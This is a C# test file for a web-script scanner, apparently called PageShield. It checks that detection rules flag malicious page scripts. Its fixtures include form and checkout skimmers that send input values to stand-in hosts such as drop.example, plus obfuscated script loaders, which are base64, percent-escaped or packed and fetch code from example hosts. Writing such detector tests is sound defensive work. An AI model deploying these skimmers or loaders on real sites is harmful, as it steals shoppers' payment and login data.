using PageShield.Detection;
using PageShield.Inventory;

namespace PageShield.Tests.Detection;

/// <summary>Every rule against its fixtures.</summary>
public sealed class RuleFixtureTests
{
    private static readonly ScriptJudge Judge = new();

    public static TheoryData<string, string> Malicious => [.. RuleFixtures.Malicious.Select(fixture => (fixture.Rule, fixture.Source))];

    public static TheoryData<string, string> Honest => [.. RuleFixtures.Honest.Select(fixture => (fixture.Rule, fixture.Source))];

    [Theory]
    [MemberData(nameof(Malicious))]
    public void What_a_rule_is_made_for_is_malicious(string rule, string source)
    {
        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Contains(judgement.Findings, finding => finding.Rule == rule);
        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
    }

    [Theory]
    [MemberData(nameof(Honest))]
    public void The_honest_code_that_looks_like_it_is_clean(string rule, string source)
    {
        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.DoesNotContain(judgement.Findings, finding => finding.Rule == rule && finding.Severity >= Severity.Medium);
        Assert.Equal(VerdictKind.Clean, judgement.Verdict);
    }

    [Fact]
    public void A_script_that_says_itself_that_it_steals_is_noticed()
    {
        const string Source = "var exfilUrl = location.origin + '/c2/collect'; document.addEventListener('submit', function (e) { fetch(exfilUrl, { method: 'POST', body: new FormData(e.target) }); });";

        var judgement = Judge.Judge(new ScriptInput { Source = Source });

        Assert.Contains(judgement.Findings, finding => finding.Rule == "names-itself");
        Assert.NotEqual(VerdictKind.Clean, judgement.Verdict);
    }

    [Theory]
    // A skimmer that lost its quotes on the way.
    [InlineData("if (new RegExp('checkout|onepage').test(window.location)) { var f = document.querySelectorAll(input, select, textarea); for (i in f) s += f[i].value; var x = new XMLHttpRequest(); x.open(“POST”, \"https://drop.example/in.php\"); x.send(btoa(s)) ", true)]
    // A note about one is no script at all, and nobody knows.
    [InlineData("This file was ) removed by ( the administrator ]]", false)]
    public void Code_that_does_not_parse_is_judged_by_its_words_or_unknown(string source, bool malicious)
    {
        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Equal(malicious ? VerdictKind.Malicious : VerdictKind.Unknown, judgement.Verdict);
    }

    [Theory]
    [InlineData(true, VerdictKind.Malicious)]
    // As an old analytics snippet does, for the sake of the HTML around it.
    [InlineData(false, VerdictKind.Clean)]
    public void A_loader_that_escapes_every_letter_hides_and_one_that_escapes_brackets_does_not(bool letters, VerdictKind expected)
    {
        const string Tag = "<script src=\"https://cdn.state-of-it.example/a.js\"></script>";
        var escaped = string.Concat(Tag.Select(letter => letters || letter is '<' or '>' or '"' ? $"%{(int)letter:X2}" : letter.ToString()));

        var judgement = Judge.Judge(new ScriptInput { Source = $"document.write(unescape('{escaped}'));" });

        Assert.Equal(expected, judgement.Verdict);
    }

    [Fact]
    public void Code_cut_out_of_a_string_is_read_with_its_escapes()
    {
        const string Source = """<script type=\"text/javascript\">if(/checkout/.test(location.href)){var s=document.createElement(\'script\');s.src=atob(\'aHR0cHM6Ly9lLmV4YW1wbGUvYS5qcw==\');document.head.appendChild(s);}</script>""";

        var judgement = Judge.Judge(new ScriptInput { Source = Source });

        Assert.Contains(judgement.Findings,
            finding => finding.Rule == "hidden-script-loader" && finding.Title.Contains("e.example", StringComparison.Ordinal));
        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
    }

    [Fact]
    public void Numbered_words_are_put_back_even_when_the_packer_lost_its_escapes()
    {
        const string Source = """
            eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\b'+e(c)+'\b','g'),k[c])}}return p}('0.1("<2 3=\'4://5.6/7.8?r="+9(0.a)+"\'></2>");',11,11,'document|write|script|src|https|gate|example|x|js|encodeURI|referrer'.split('|'),0,{}))
            """;

        var judgement = Judge.Judge(new ScriptInput { Source = Source });

        Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("https://gate.example/x.js", StringComparison.Ordinal));
    }
}
